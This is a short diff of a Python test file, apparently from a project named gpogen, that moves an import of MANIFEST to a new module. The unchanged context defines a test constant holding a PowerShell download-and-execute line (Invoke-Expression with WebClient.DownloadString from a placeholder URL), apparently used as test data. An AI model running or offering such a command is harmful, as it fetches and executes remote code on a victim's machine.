@@ -11,7 +11,7 @@ from pathlib import Path
 
 import pytest
 
-from gpogen.project.tree import MANIFEST
+from gpogen.outputs.tree import MANIFEST
 from tests.cli.conftest import Run, Workplace
 
 LINE = b"Invoke-Expression (New-Object Net.WebClient).DownloadString('http://x')\r\n"
